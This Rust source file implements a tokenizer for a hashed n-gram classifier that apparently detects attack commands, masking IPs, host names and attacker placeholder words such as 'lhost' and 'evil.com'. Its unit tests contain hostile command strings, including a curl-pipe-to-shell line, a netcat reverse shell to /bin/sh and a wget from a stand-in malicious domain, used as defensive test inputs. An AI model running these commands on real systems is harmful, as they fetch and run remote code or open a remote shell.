//! The tokenizer behind the hashed n-gram features.
//!
//! Words are runs of `[A-Za-z0-9_]` that may continue with `.` and `-`
//! (`os.system`, `apt-get`, `--no-check-certificate`); a `-` after whitespace
//! starts a word so flags stay whole (`-d`, `-fssl`). Every other visible ASCII
//! byte is a token of its own (`|`, `>`, `$`, `(`), and so is each newline.
//! Words are lowercased, and the literals that cheat sheets fill in for the
//! user are masked so the model learns the shape, not the placeholder:
//! numbers, IPs and ports become `<num>`, host names `<host>`, long words
//! `<long>`, long hex strings `<hex>`, and words such as `attacker` or `lhost`
//! `<ph>`.

use std::sync::OnceLock;

/// What a word was masked as, if anything.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mask {
    Num,
    Host,
    Long,
    Hex,
    Placeholder,
}

impl Mask {
    pub fn as_str(self) -> &'static str {
        match self {
            Mask::Num => "<num>",
            Mask::Host => "<host>",
            Mask::Long => "<long>",
            Mask::Hex => "<hex>",
            Mask::Placeholder => "<ph>",
        }
    }
}

/// One token: its hash (of the lowercased or masked text) and where it came from.
#[derive(Debug, Clone, Copy)]
pub struct Token<'a> {
    pub hash: u64,
    /// The original bytes of the token.
    pub text: &'a str,
    pub mask: Option<Mask>,
}

impl Token<'_> {
    /// The token as the model sees it: masked or lowercased.
    pub fn display(&self) -> String {
        match self.mask {
            Some(mask) => mask.as_str().to_owned(),
            None if self.text == "\n" => "\\n".to_owned(),
            None => self.text.to_ascii_lowercase(),
        }
    }
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// FNV-1a over the ASCII-lowercased bytes.
pub fn hash_lower(bytes: &[u8]) -> u64 {
    let mut h = FNV_OFFSET;
    for &b in bytes {
        h = (h ^ u64::from(b.to_ascii_lowercase())).wrapping_mul(FNV_PRIME);
    }
    h
}

/// A strong 64-bit mixer (murmur3's finalizer), used to spread hashes over buckets.
pub fn mix(mut h: u64) -> u64 {
    h ^= h >> 33;
    h = h.wrapping_mul(0xff51_afd7_ed55_8ccd);
    h ^= h >> 33;
    h = h.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    h ^= h >> 33;
    h
}

/// Words that cheat sheets and test suites use where a real attack has its own value.
const PLACEHOLDERS: &[&str] = &[
    "attacker",
    "attackerip",
    "attacker_ip",
    "attacker-ip",
    "attackerhost",
    "attacker_host",
    "attacker_port",
    "attacker.com",
    "evil",
    "evil.com",
    "evilcorp",
    "lhost",
    "rhost",
    "lport",
    "rport",
    "your_ip",
    "yourip",
    "your_port",
    "your_host",
    "remote_ip",
    "remote_host",
    "remote_port",
    "ip",
    "port",
    "host",
    "example",
    "pathtoatomicsfolder",
    "externalpayloads",
    "atomic",
    "atomics",
    "victim",
    "kali",
    "tun0",
    "listener",
    "localhost",
];

/// Top-level domains that mark a dotted word as a host name. `sh` and `py` are
/// left out on purpose: they are far more often file extensions.
const TLDS: &[&str] = &[
    "com", "net", "org", "io", "ru", "cn", "xyz", "info", "top", "me", "cc", "tk", "biz", "co",
    "uk", "de", "onion", "site", "online", "club", "live", "pw", "su", "in", "us", "dev", "app",
    "cloud", "tech", "ga", "ml", "cf", "gq", "ir", "kp", "fr", "nl", "eu", "to", "gg", "ly",
    "link", "shop", "store", "work", "space", "website", "fun", "icu", "vip", "local", "internal",
    "lan",
];

/// Hashes of the placeholder words, sorted, for a binary search per word.
fn placeholder_hashes() -> &'static [u64] {
    static HASHES: OnceLock<Vec<u64>> = OnceLock::new();
    HASHES.get_or_init(|| {
        let mut h: Vec<u64> = PLACEHOLDERS
            .iter()
            .map(|p| hash_lower(p.as_bytes()))
            .collect();
        h.sort_unstable();
        h
    })
}

/// What a word looks like, gathered while it is scanned.
#[derive(Clone, Copy)]
struct Shape {
    digits_dots: bool,
    hex: bool,
    has_digit: bool,
    has_dot: bool,
}

/// What `word` (with its lowercase hash and shape) is masked as. Called for every word: cheap checks first.
fn classify(word: &[u8], hash: u64, shape: Shape) -> Option<Mask> {
    let Shape {
        digits_dots,
        hex,
        has_digit,
        has_dot,
    } = shape;
    if digits_dots {
        return Some(Mask::Num);
    }
    if word.len() > 40 {
        return Some(Mask::Long);
    }
    if word.len() >= 12 && hex && has_digit {
        return Some(Mask::Hex);
    }
    if placeholder_hashes().binary_search(&hash).is_ok() {
        return Some(Mask::Placeholder);
    }
    if has_dot && word[0].is_ascii_alphabetic() {
        if let Some(dot) = word.iter().rposition(|b| *b == b'.') {
            let tld = &word[dot + 1..];
            if TLDS.iter().any(|t| t.as_bytes().eq_ignore_ascii_case(tld)) {
                return Some(Mask::Host);
            }
        }
    }
    None
}

fn mask_hash(mask: Mask) -> u64 {
    static HASHES: OnceLock<[u64; 5]> = OnceLock::new();
    let all = HASHES.get_or_init(|| {
        [
            Mask::Num,
            Mask::Host,
            Mask::Long,
            Mask::Hex,
            Mask::Placeholder,
        ]
        .map(|m| hash_lower(m.as_str().as_bytes()))
    });
    all[mask as usize]
}

fn is_word_start(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

fn is_word_continue(b: u8) -> bool {
    is_word_start(b) || b == b'.' || b == b'-'
}

/// Calls `f` with every token of `text`, in order.
pub fn for_each_token<'a>(text: &'a str, mut f: impl FnMut(Token<'a>)) {
    try_for_each_token(text, |t| {
        f(t);
        true
    });
}

/// Calls `f` with the tokens of `text`, in order, until it returns false.
pub fn try_for_each_token<'a>(text: &'a str, mut f: impl FnMut(Token<'a>) -> bool) {
    let bytes = text.as_bytes();
    let mut i = 0;
    let mut prev_space = true;
    while i < bytes.len() {
        let b = bytes[i];
        let starts_flag =
            b == b'-' && prev_space && bytes.get(i + 1).is_some_and(|n| is_word_continue(*n));
        if is_word_start(b) || starts_flag {
            let start = i;
            i += 1;
            while i < bytes.len() && is_word_continue(bytes[i]) {
                i += 1;
            }
            // Trailing `.`/`-` belong to the sentence or operator, not the word.
            let mut end = i;
            while end > start + 1 && matches!(bytes[end - 1], b'.' | b'-') {
                end -= 1;
            }
            // Never split inside a UTF-8 sequence: continuation bytes are word bytes.
            let word = &bytes[start..end];
            // One pass for the hash and the shape.
            let mut lower = FNV_OFFSET;
            let mut shape = Shape {
                digits_dots: true,
                hex: true,
                has_digit: false,
                has_dot: false,
            };
            for &b in word {
                lower = (lower ^ u64::from(b.to_ascii_lowercase())).wrapping_mul(FNV_PRIME);
                let digit = b.is_ascii_digit();
                shape.has_digit |= digit;
                shape.has_dot |= b == b'.';
                shape.digits_dots &= digit || b == b'.';
                shape.hex &= b.is_ascii_hexdigit();
            }
            let mask = classify(word, lower, shape);
            let hash = match mask {
                Some(m) => mask_hash(m),
                None => lower,
            };
            if !f(Token {
                hash,
                text: &text[start..end],
                mask,
            }) {
                return;
            }
            // Emit the trimmed punctuation as tokens of their own.
            for j in end..i {
                if !f(Token {
                    hash: hash_lower(&bytes[j..j + 1]),
                    text: &text[j..j + 1],
                    mask: None,
                }) {
                    return;
                }
            }
            prev_space = false;
            continue;
        }
        if b == b'\n' {
            if !f(Token {
                hash: hash_lower(b"\n"),
                text: &text[i..i + 1],
                mask: None,
            }) {
                return;
            }
            prev_space = true;
        } else if b.is_ascii_whitespace() {
            prev_space = true;
        } else {
            if !f(Token {
                hash: hash_lower(&bytes[i..i + 1]),
                text: &text[i..i + 1],
                mask: None,
            }) {
                return;
            }
            prev_space = false;
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tokens(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        for_each_token(text, |t| out.push(t.display()));
        out
    }

    #[test]
    fn words_flags_and_operators() {
        assert_eq!(
            tokens("curl -fsSL https://x | sh"),
            ["curl", "-fssl", "https", ":", "/", "/", "x", "|", "sh"]
        );
        assert_eq!(
            tokens("echo $(base64 -d)"),
            ["echo", "$", "(", "base64", "-d", ")"]
        );
        assert_eq!(
            tokens("os.system('id')"),
            ["os.system", "(", "'", "id", "'", ")"]
        );
        assert_eq!(tokens("a\nb"), ["a", "\\n", "b"]);
        assert_eq!(tokens("x-"), ["x", "-"]);
        assert_eq!(tokens("end."), ["end", "."]);
    }

    #[test]
    fn masks_cheat_sheet_literals() {
        assert_eq!(
            tokens("nc 10.0.0.1 4242 -e /bin/sh"),
            ["nc", "<num>", "<num>", "-e", "/", "bin", "/", "sh"]
        );
        assert_eq!(tokens("ping attacker.com"), ["ping", "<ph>"]);
        assert_eq!(tokens("wget evil-site.ru/x"), ["wget", "<host>", "/", "x"]);
        assert_eq!(tokens("LHOST=1"), ["<ph>", "=", "<num>"]);
        assert_eq!(tokens("sha 0123456789abcdef0123"), ["sha", "<hex>"]);
        assert_eq!(tokens(&"A".repeat(41)), ["<long>"]);
        // A file name with an extension that is also a TLD-free word stays.
        assert_eq!(tokens("run install.sh"), ["run", "install.sh"]);
    }

    #[test]
    fn hashing_is_case_insensitive_and_stable() {
        assert_eq!(hash_lower(b"CURL"), hash_lower(b"curl"));
        // Pinned: the training matrix depends on these exact values.
        assert_eq!(hash_lower(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(hash_lower(b"a"), 0xaf63_dc4c_8601_ec8c);
    }

    #[test]
    fn non_ascii_is_kept_whole() {
        assert_eq!(tokens("héllo wörld"), ["héllo", "wörld"]);
    }
}
